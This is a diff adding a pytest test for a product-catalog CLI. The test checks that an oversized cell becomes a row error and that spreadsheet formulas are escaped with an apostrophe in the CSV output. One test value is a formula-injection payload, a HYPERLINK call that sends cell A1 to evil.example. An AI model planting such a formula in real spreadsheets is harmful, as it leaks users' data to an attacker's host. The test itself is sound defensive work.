@@ -14,6 +14,7 @@ from pathlib import Path
 import pytest
 from products_helpers import SHARED_CATALOG, product_row, write_catalog
 
+from contentmill.products.catalog import CELL_LIMIT
 from contentmill.testing.harness import Upstream
 
 CLI = [sys.executable, str(Path(__file__).with_name("products_cli_app.py"))]
@@ -73,3 +74,27 @@ def test_a_run_writes_csv_and_prints_one_json_object(shop: Callable[..., Upstrea
     assert [r["id"] for r in rows] == [f"p{n:04d}" for n in range(10)]
     assert all(r["description"] and float(r["cost_usd"]) > 0 for r in rows)
     assert server.stats()["items"] == 10
+
+
+def test_a_cell_over_the_limit_is_its_rows_error_and_formulas_are_quoted_in_csv(
+        shop: Callable[..., Upstream], tmp_path: Path, prefect_api: str) -> None:
+    shop()
+    rows = [product_row(n) for n in range(6)]
+    rows[2]["About Product"] = "pasted " * (17 * 1024 * 1024 // 7)  # 17 MB: over the limit, once a traceback
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Meadow Kite Model 4")'
+    rows[4]["Product Name"] = formula
+    catalog = write_catalog(tmp_path / "catalog.csv", rows)
+    out = tmp_path / "descriptions.csv"
+    done = run_cli(str(catalog), "--out", str(out), "--json", env={**os.environ, "PREFECT_API_URL": prefect_api})
+    assert done.returncode == 0, done.stderr[-3000:]
+    assert "Traceback" not in done.stderr
+    summary = json.loads(done.stdout)
+    assert (summary["items"], summary["done"], summary["failed"], summary["row_errors"]) == (5, 5, 0, 1)
+    with out.open(newline="", encoding="utf-8") as handle:
+        written = {r["id"]: r for r in csv.DictReader(handle)}
+    assert list(written) == ["p0000", "p0001", "p0003", "p0004", "p0005"]
+    assert all(r["description"] for r in written.values())
+    assert written["p0004"]["name"] == "'" + formula  # a spreadsheet shows it as text, runs nothing
+    (error,) = [json.loads(line) for line in Path(summary["errors_out"]).read_text(encoding="utf-8").splitlines()]
+    assert (error["row"], error["id"]) == (3, "p0002")
+    assert "column 'About Product' holds" in error["reason"] and f"{CELL_LIMIT:,}" in error["reason"]
